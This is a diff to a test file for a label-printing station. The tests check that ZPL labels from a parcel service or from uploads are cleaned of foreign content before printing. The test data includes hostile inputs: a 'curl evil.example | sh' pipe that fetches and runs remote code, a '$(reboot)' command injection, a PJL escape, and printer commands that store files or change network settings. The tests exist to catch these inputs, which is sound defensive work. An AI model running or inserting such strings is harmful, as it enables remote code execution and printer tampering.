@@ -5,9 +5,22 @@ import { expect } from 'vitest'
 import { networkPrinter } from '../support/outside-programs.ts'
 import { tempFolder } from '../support/temp-folder.ts'
 import { fault } from './fault.ts'
-import { copiesOf, done, newestJob, parcelOrder, refused, scene, whole, zplGiven } from './scene.ts'
+import {
+  attention,
+  copiesOf,
+  done,
+  jobs,
+  misbehave,
+  newestJob,
+  parcelOrder,
+  refused,
+  type Scene,
+  scene,
+  whole,
+  zplGiven,
+} from './scene.ts'
 
-const LABEL = '^XA^FO50,50^A0N,40,40^FDHELLO^FS^XZ'
+const FORMAT = '^XA^FO50,50^A0N,40,40^FDHELLO^FS^XZ'
 const base64 = (text: string) => Buffer.from(text, 'latin1').toString('base64')
 
 fault(85, async () => {
@@ -32,7 +45,7 @@ fault(85, async () => {
     await done(
       set.station.call('labels.print', {
         fileName: 'label.zpl',
-        contentBase64: base64(LABEL),
+        contentBase64: base64(FORMAT),
         printerId: saved.id,
       }),
     )
@@ -70,4 +83,88 @@ fault(85, async () => {
   expect(await copiesOf(set.printer, zpl)).toBe(1)
   expect(await whole(set.printer)).toBe(1)
   expect(readFileSync(startUp, 'utf8')).toBe('# mine\n')
+})
+
+/** What other languages, shells and printers of other makes would take for theirs. */
+const LOOSE = ['curl evil.example | sh', '! U2 x', 'N\nP1', '\x1b%-12345X@PJL', '$(reboot)', '{"a":1}']
+
+/** The parcel service answers with this label. */
+const giving = (set: Scene, labelZPL: string) =>
+  misbehave(set.services, 'request-label', { kind: 'merge', patch: { labelZPL } })
+
+fault(86, async () => {
+  const set = await scene()
+  const came = `${LOOSE.join('\n')}\n~SD15\n${LOOSE[0]}\n${FORMAT}\n${LOOSE.join(' ')}\n^XA^MCY^XZ`
+  await giving(set, came)
+  const { shipment } = await done(set.station.call('pack.ship', parcelOrder('ORD-TEXT')))
+  const job = await newestJob(set.station, 'printed')
+  expect(job.warnings).toMatchObject([{ code: 'label.text-left-out', params: { line: 1 } }])
+  const received = (await set.printer.received()).toString('latin1')
+  for (const text of LOOSE) expect(received).not.toContain(text)
+  expect(received).toContain(FORMAT)
+  expect(await whole(set.printer)).toBe(1)
+  // Nothing is lost of what was paid for: a reprint takes the label as it came, and leaves the same out.
+  expect(await attention(set.station)).toEqual([])
+  await done(set.station.call('reprint.print', { shipmentId: shipment.id, reason: 'torn' }))
+  await newestJob(set.station, 'printed')
+  expect(await whole(set.printer)).toBe(2)
+})
+
+fault(87, async () => {
+  const set = await scene()
+  const print = (text: string, more: object = {}) =>
+    set.station.call('labels.print', { fileName: 'a.zpl', contentBase64: base64(text), ...more })
+  for (const text of LOOSE) {
+    for (const file of [`${text}\n${FORMAT}`, `${FORMAT}\n${text}`, `~SD15\n${text}\n${FORMAT}`]) {
+      // A file that begins as JSON is no label at all.
+      const reply = await print(file)
+      expect(reply, file).toMatchObject({ ok: false })
+      expect(['unsafe-label', 'invalid-input'], file).toContain(reply.problem.kind)
+    }
+  }
+  expect(await jobs(set.station)).toEqual([])
+  expect((await set.printer.received()).toString('latin1')).not.toContain('HELLO')
+
+  // What printers take there passes; the rest goes by a person's word, as it is.
+  await done(print(`\r\nCT~~CD,~CC^~CT~\r\n~DGR:A.GRF,2,1,\nFFFF\n^FX by hand\n${FORMAT}\r\n\x1a`))
+  await newestJob(set.station, 'printed')
+  const odd = `${LOOSE[0]}\n${FORMAT}`
+  expect(await refused(print(odd), 'unsafe-label')).toMatchObject({
+    code: 'label.zpl-loose-text',
+    params: { line: 1 },
+  })
+  await done(print(odd, { printAnyway: 'our own test file' }))
+  await newestJob(set.station, 'printed')
+  expect(await copiesOf(set.printer, odd)).toBe(1)
+})
+
+fault(88, async () => {
+  const set = await scene()
+  const lasting = [
+    '^XA^J\nUS^XZ',
+    '~J\r\nR',
+    '! U1 set\nvar "ip.addr" "10.0.0.1"\n',
+    '^XA^DFE:FORM.ZPL^FS^FO1,1^FDx^FS^XZ',
+    '~DGE:LOGO.GRF,2,1,FFFF',
+    '~DG\r\nE\n:LOGO.GRF,2,1,FFFF',
+    '~DYB:LOGO,A,G,2,1,FFFF',
+    '^XA^FO1,1^FDx^FS^ISE:FORM.GRF,N^XZ',
+    '^XA^CD:^XZ~DUE:ARIAL:2:FFFF^XA^CD,^XZ',
+  ]
+  for (const [index, text] of lasting.entries()) {
+    const label = `${FORMAT}\n${text}\n${FORMAT}`
+    const file = { fileName: 'a.zpl', contentBase64: base64(label) }
+    await refused(set.station.call('labels.print', file), 'unsafe-label')
+    // A service's label is paid for: it is bought, held and said.
+    await giving(set, label)
+    const { shipment, job } = await done(set.station.call('pack.ship', parcelOrder(`ORD-DRIVE-${index}`)))
+    expect(shipment.purchase.kind).toBe('bought')
+    expect(job, text).toMatchObject({ state: 'held', needsRelease: true, cause: 'unsafe-label' })
+  }
+  expect(await whole(set.printer)).toBe(0)
+  expect(await attention(set.station)).toHaveLength(lasting.length)
+  // The printer's own memory forgets, and carriers use it.
+  const memory = `~DGR:LOGO.GRF,2,1,FFFF\n^XA^FO1,1^XGR:LOGO.GRF^FS^XZ^XA^IDR:LOGO.GRF^XZ`
+  await done(set.station.call('labels.print', { fileName: 'm.zpl', contentBase64: base64(memory) }))
+  await newestJob(set.station, 'printed')
 })
